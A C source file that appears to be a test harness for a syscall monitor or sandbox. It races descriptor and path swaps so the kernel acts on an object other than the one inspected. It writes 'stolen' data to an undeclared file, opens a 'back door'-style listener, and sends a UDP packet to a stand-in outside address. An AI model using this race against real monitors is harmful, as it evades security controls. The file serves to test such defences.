/* SPDX-License-Identifier: Apache-2.0 */
/*
 * race_actor.c - an act on one object that is looked at as an act on another
 *
 * usage: race_actor WHAT DECLARED UNDECLARED
 *	dir	openat(2) below the directory DECLARED; another thread puts UNDECLARED in the place
 *		of its descriptor
 *	memory	open(2) of DECLARED/f; another thread writes UNDECLARED/f over the path
 *	listen	listen(2) on port DECLARED of loopback; another thread puts a socket bound to port
 *		UNDECLARED of every address in the place of its descriptor
 *	bind	bind(2) to port UNDECLARED of every address, on a socket of AF_UNIX; another
 *		thread puts one of UDP in the place of its descriptor, which then sends
 *
 * The exchange comes some time after the call began, later at first, and earlier with every try: so
 * the first time that it is early enough for the kernel it is too late for who looked before.
 * Prints "done" and ends with 0 once that was so.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define SLOT 50		/* the descriptor that is exchanged */
#define LATEST_US 2000
#define STEP_US 1
#define TRIES 3		/* at each delay */

enum { DIRECTORY, MEMORY, LISTEN, BIND };

static struct {
	int what, good, bad;		/* directories or sockets */
	char path[512], bad_path[512];
	volatile long at_ns;
	volatile int go, stop;		/* go: 1 wait until at_ns and exchange, 2 it is done */
} race;

static long now_ns(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000000L + t.tv_nsec;
}

static void *exchange(void *arg)
{
	(void)arg;
	for (;;) {
		while (race.go != 1)
			if (race.stop)
				return NULL;
		while (now_ns() < race.at_ns)
			;
		if (race.what == MEMORY)
			strcpy(race.path, race.bad_path);
		else
			(void)dup2(race.bad, SLOT);
		race.go = 2;
	}
}

static int tcp_socket(in_addr_t addr, int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(addr),
				 .sin_port = htons((uint16_t)port) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a))) {
		perror("bind");
		exit(1);
	}
	return fd;
}

/* act_bind() - @port: of every address */
static int act_bind(int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
	socklen_t len = sizeof(a);

	(void)bind(SLOT, (struct sockaddr *)&a, sizeof(a));
	while (race.go != 2)
		;
	if (getsockname(race.bad, (struct sockaddr *)&a, &len) < 0 || !a.sin_port)
		return 0;
	(void)inet_pton(AF_INET, "203.0.113.9", &to.sin_addr);
	return sendto(race.bad, "x", 1, 0, (struct sockaddr *)&to, sizeof(to)) == 1;
}

/* act() - Return: 1 if the kernel did it to the other object */
static int act(const char *declared, const char *undeclared)
{
	int fd, on = 0, done;
	socklen_t len = sizeof(on);

	if (race.what == BIND)
		return act_bind(atoi(undeclared));
	if (race.what == LISTEN) {
		(void)listen(SLOT, 1);
		while (race.go != 2)
			;
		return getsockopt(race.bad, SOL_SOCKET, SO_ACCEPTCONN, &on, &len) == 0 && on;
	}
	if (race.what == MEMORY)
		(void)snprintf(race.path, sizeof(race.path), "%s/f", declared);
	fd = race.what == MEMORY ? open(race.path, O_WRONLY | O_CREAT, 0644) :
		openat(SLOT, "f", O_WRONLY | O_CREAT, 0644);
	while (race.go != 2)
		;
	done = fd >= 0 && faccessat(race.bad, "f", F_OK, 0) == 0 && write(fd, "stolen\n", 7) == 7;
	(void)close(fd);
	return done;
}

static int try_all(const char *declared, const char *undeclared)
{
	for (long us = LATEST_US; us > 0; us -= STEP_US) {
		for (int i = 0; i < TRIES; i++) {
			if (race.what != MEMORY)
				(void)dup2(race.good, SLOT);
			race.at_ns = now_ns() + us * 1000;
			race.go = 1;
			if (act(declared, undeclared))
				return 1;
			race.go = 0;
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	static const char *const names[] = { "dir", "memory", "listen", "bind" };
	pthread_t thread;
	int done;

	if (argc != 4)
		return 2;
	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++)
		if (!strcmp(argv[1], names[i]))
			race.what = (int)i;
	if (race.what == LISTEN) {
		race.good = tcp_socket(INADDR_LOOPBACK, atoi(argv[2]));
		race.bad = tcp_socket(INADDR_ANY, atoi(argv[3]));
	} else if (race.what == BIND) {
		race.good = socket(AF_UNIX, SOCK_DGRAM, 0);
		race.bad = socket(AF_INET, SOCK_DGRAM, 0);
	} else {
		race.good = open(argv[2], O_RDONLY | O_DIRECTORY);
		race.bad = open(argv[3], O_RDONLY | O_DIRECTORY);
		(void)snprintf(race.bad_path, sizeof(race.bad_path), "%s/f", argv[3]);
	}
	(void)prctl(PR_SET_TIMERSLACK, 1);
	if (race.good < 0 || race.bad < 0 || pthread_create(&thread, NULL, exchange, NULL))
		return 1;
	done = try_all(argv[2], argv[3]);
	race.stop = 1;
	(void)pthread_join(thread, NULL);
	if (race.what >= LISTEN && done)
		(void)usleep(700000);	/* it stays open for a while, as a back door does */
	puts(done ? "done" : "lost");
	return !done;
}
